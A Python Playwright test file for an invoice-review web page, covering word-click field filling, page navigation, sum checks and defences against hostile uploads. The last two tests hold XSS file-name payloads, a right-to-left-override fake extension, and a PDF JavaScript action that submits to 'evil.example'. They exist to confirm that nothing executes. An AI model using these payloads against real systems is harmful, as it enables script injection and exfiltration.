"""Clicks on the page of a document: what is printed there comes into the field, and where it stands is learned."""

from __future__ import annotations

from io import BytesIO
from uuid import UUID

import pypdf
import pytest
from playwright.sync_api import Browser, expect
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from invoice_pipelines.accounts.roles import Role
from invoice_pipelines_tests.integration.intake.review.pages import page_of, turned
from invoice_pipelines_tests.integration.web.intake.conftest import IntakeTenant
from invoice_pipelines_tests.integration.web.pages.reviews.rows import box_of, on_screen, waiting
from invoice_pipelines_tests.support.desk.visitors import Visitor, needs_chromium, visiting
from invoice_pipelines_tests.support.intake.documents.text_layer.drawing import draw
from invoice_pipelines_tests.support.intake.review.lane import uploaded
from invoice_pipelines_tests.support.sizes import only_at_full_size

pytestmark = needs_chromium


def opened(visitor: Visitor, office: IntakeTenant, invoice: str) -> None:
    visitor.open(f"/desk/{office.tenant.slug}/reviews/{invoice}")
    visitor.page.wait_for_selector("#review.lively")
    visitor.page.wait_for_load_state("networkidle")


@pytest.mark.parametrize(
    ("degrees", "is_zoomed"),
    [
        (0, False),
        (90, True),
        pytest.param(180, True, marks=pytest.mark.slow),
        pytest.param(0, True, marks=[pytest.mark.slow, only_at_full_size]),
        pytest.param(90, False, marks=[pytest.mark.slow, only_at_full_size]),
        pytest.param(270, False, marks=[pytest.mark.slow, only_at_full_size]),
    ],
)
def test_a_word_that_is_clicked_fills_the_field_and_the_next_document_passes(
    office: IntakeTenant, browser: Browser, degrees: int, is_zoomed: bool
) -> None:
    data = turned(page_of("HW-77", "1000.00"), degrees, in_content=True)
    invoice = str(uploaded(office.desk, data, "HW-77.pdf"))
    word = box_of(office.desk, invoice, "HW-77")
    with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
        opened(visitor, office, invoice)
        page = visitor.page
        if is_zoomed:
            page.keyboard.press("Escape")  # the number is a text, in which letters are written
            page.keyboard.press("z")
            expect(page.locator(".paper.zoomed")).to_have_count(1)
        left, top, right, bottom = on_screen(visitor, word)
        page.mouse.click((left + right) / 2, (top + bottom) / 2)
        page.wait_for_selector(".mark.shown.active[data-field=number]")
        assert page.get_by_label("Invoice number").input_value() == "HW-77"
        left, top, right, bottom = on_screen(visitor, word)
        mark = page.locator(".mark.shown[data-field=number]").bounding_box()
        assert mark is not None
        slack = 10 if is_zoomed else 5
        assert abs(mark["x"] - left) < slack
        assert abs(mark["y"] - top) < slack
        assert abs(mark["x"] + mark["width"] - right) < slack
        assert abs(mark["y"] + mark["height"] - bottom) < slack
        page.wait_for_selector("#outlook .notice.good")
        assert visitor.sees("Will be learned: Invoice number.")
        page.keyboard.press("Enter")
        page.wait_for_url("**/reviews?decided=*")
        assert visitor.sees("Learned where it stands on documents of this supplier: Invoice number.")
    next_one = turned(page_of("HW-78", "2500.00"), degrees, in_content=True)
    assert office.desk.status(uploaded(office.desk, next_one, "HW-78.pdf")) == "VALIDATED"


def test_several_words_are_dragged_over_and_what_is_no_value_is_said(office: IntakeTenant, browser: Browser) -> None:
    invoice = waiting(office)
    with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
        opened(visitor, office, invoice)
        page = visitor.page
        page.get_by_label("Total with VAT").focus()
        left, top, right, bottom = on_screen(visitor, box_of(office.desk, invoice, "Rechnungsdatum"))
        page.mouse.click((left + right) / 2, (top + bottom) / 2)
        page.get_by_text("There is no value for this field: Total with VAT").wait_for()
        assert page.get_by_label("Total with VAT").input_value() == "1,190.00"
        page.get_by_label("Seller", exact=True).focus()
        first, last = (on_screen(visitor, box_of(office.desk, invoice, word)) for word in ("Hobelweg", "Köln"))
        page.mouse.move(first[0] - 3, first[1] - 3)
        page.mouse.down()
        page.mouse.move(last[2] + 3, last[3] + 3, steps=4)
        page.mouse.up()
        page.wait_for_selector(".mark.shown.active[data-field='seller.name']")
        assert page.get_by_label("Seller", exact=True).input_value() == "Hobelweg 4, 50667 Köln"
        page.keyboard.press("Escape")
        assert page.get_by_label("Seller", exact=True).input_value() == "Zimmerei Holzwurm GmbH"


def test_pages_are_turned_by_keys_and_the_marks_are_on_theirs(office: IntakeTenant, browser: Browser) -> None:
    writer = pypdf.PdfWriter()
    for data in (draw([(50, 100, "Anschreiben zur Rechnung"), (50, 120, "Guten Tag")]), page_of("HW-77", "1000.00")):
        writer.append(BytesIO(data))
    buffer = BytesIO()
    writer.write(buffer)
    invoice = str(uploaded(office.desk, buffer.getvalue(), "zwei.pdf"))
    top = """number => document.querySelector(`.sheet[data-page="${number}"]`).getBoundingClientRect().top
             - document.querySelector(".paper").getBoundingClientRect().top"""
    with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
        opened(visitor, office, invoice)
        page, keys = visitor.page, visitor.page.keyboard
        page.get_by_label("Total with VAT").focus()
        box = page.locator(".sheet[data-page='2'] .mark.active[data-field=gross_amount]").bounding_box()
        paper = page.locator(".paper").bounding_box()
        assert box is not None
        assert paper is not None
        assert paper["y"] <= box["y"] <= paper["y"] + paper["height"], "the place of the active field is in sight"
        keys.press("k")
        assert abs(page.evaluate(top, 1)) < 3
        keys.press("j")
        assert abs(page.evaluate(top, 2)) < 3
        page.wait_for_load_state("networkidle")
        assert page.evaluate("document.querySelectorAll('.sheet img')[1].naturalWidth") > 100


def test_sums_are_told_while_one_types(office: IntakeTenant, browser: Browser) -> None:
    invoice = waiting(office)
    session = office.tenant.sessions[Role.ACCOUNTANT]
    with visiting(browser, office.site.url, session, language="de") as visitor:
        opened(visitor, office, invoice)
        page = visitor.page
        page.get_by_label("Gesamtbetrag").focus()
        page.keyboard.type("1.200,00")
        line = page.locator(".sum[data-total=gross_amount]")
        assert "1.190,00" in line.inner_text()
        assert "1.200,00" in line.inner_text()
        assert "geht nicht auf" in line.inner_text()
        page.get_by_text("Summen gehen nicht auf").wait_for()
        page.get_by_label("Nettobetrag").focus()
        page.keyboard.type("1010")
        assert "geht nicht auf" not in line.inner_text()
        page.get_by_label("Rechnungsdatum").focus()
        page.keyboard.type("31.2.2026")
        page.get_by_text("Dies ist kein Tag").wait_for()
    assert office.desk.rows("select * from intake.review_decision") == []


@pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.pdf", "rechnung\u202efdp.exe.pdf"])
def test_a_document_that_wants_to_run_something_is_a_picture(office: IntakeTenant, browser: Browser, name: str) -> None:
    writer = pypdf.PdfWriter(BytesIO(page_of("HW-77", "1000.00", seller="<script>alert(2)</script> GmbH")))
    script = TextStringObject("app.alert('hello'); this.submitForm('https://evil.example');")
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script})
    writer.root_object[NameObject("/OpenAction")] = action
    buffer = BytesIO()
    writer.write(buffer)
    invoice = str(uploaded(office.desk, buffer.getvalue(), name))
    with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
        visitor.when("dialog", lambda dialog: visitor.complaints.append(f"dialog: {dialog.message}"))
        opened(visitor, office, invoice)
        assert visitor.page.evaluate("document.querySelector('.sheet img').naturalWidth") > 100
        expect(visitor.page.locator("embed, object, iframe")).to_have_count(0)
        visitor.open(f"/desk/{office.tenant.slug}/reviews")


def test_what_only_calls_itself_a_pdf_is_refused_and_shown_as_nothing(office: IntakeTenant, browser: Browser) -> None:
    invoice = str(uploaded(office.desk, b"<html><script>alert(1)</script></html>", "invoice.pdf"))
    with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
        visitor.when("dialog", lambda dialog: visitor.complaints.append(f"dialog: {dialog.message}"))
        visitor.open(f"/desk/{office.tenant.slug}/reviews/{invoice}")
        assert visitor.sees("This document has no pages that could be shown")
    assert office.desk.status(UUID(invoice)) == "FAILED"
